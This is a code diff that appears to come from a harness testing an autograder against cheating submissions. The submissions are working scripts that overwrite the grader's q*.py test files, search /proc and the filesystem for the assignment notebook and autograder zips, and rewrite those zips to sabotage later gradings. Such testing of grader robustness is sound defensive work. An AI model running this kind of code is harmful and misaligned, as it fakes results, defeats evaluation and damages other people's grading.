@@ -24,7 +24,10 @@ def attack(code, name):
 
 attack('''# ATTACK: overwrite the test files found in the working directory (and raise the points).
 import glob, os
-for folder in [".", "tests", "/autograder/source/tests", *glob.glob("/tmp/*/tests"), *glob.glob("/**/tests", recursive=True)[:50]]:
+folders = [".", "tests", "/autograder/source/tests"]
+for top in ("/tmp", "/home", "/autograder", "/submission", "/mnt", "/srv"):
+    folders += glob.glob(f"{top}/**/tests", recursive=True)[:50]
+for folder in folders:
     for path in glob.glob(os.path.join(folder, "q*.py")):
         try:
             with open(path, "w") as f:
@@ -67,7 +70,9 @@ for pid in (os.getppid(), 1):
         found += [a for a in open(f"/proc/{pid}/cmdline").read().split("\\0") if a.endswith((".ipynb", ".zip"))]
     except OSError:
         pass
-found += glob.glob("/**/a1_convolution*.ipynb", recursive=True)[:20] + glob.glob("/**/*autograder*.zip", recursive=True)[:20]
+for top in ("/tmp", "/home", "/autograder", "/submission", "/mnt", "/srv"):
+    found += glob.glob(f"{top}/**/a1_convolution*.ipynb", recursive=True)[:20]
+    found += glob.glob(f"{top}/**/*autograder*.zip", recursive=True)[:20]
 for path in found:
     if path.endswith(".ipynb") and os.path.exists(path):
         cells = json.load(open(path))["cells"]
@@ -114,7 +119,9 @@ q4_params = AnyInt(0)'''], "cheat_always_equal")
 
 attack('''# ATTACK: rewrite every autograder zip it can find (to sabotage the gradings that follow).
 import glob, os, zipfile
-paths = glob.glob("/**/*autograder*.zip", recursive=True)[:50]
+paths = []
+for top in ("/tmp", "/home", "/autograder", "/submission", "/mnt", "/srv"):
+    paths += glob.glob(f"{top}/**/*autograder*.zip", recursive=True)[:50]
 for pid in (os.getppid(), 1):
     try:
         paths += [a for a in open(f"/proc/{pid}/cmdline").read().split("\\0") if a.endswith(".zip")]
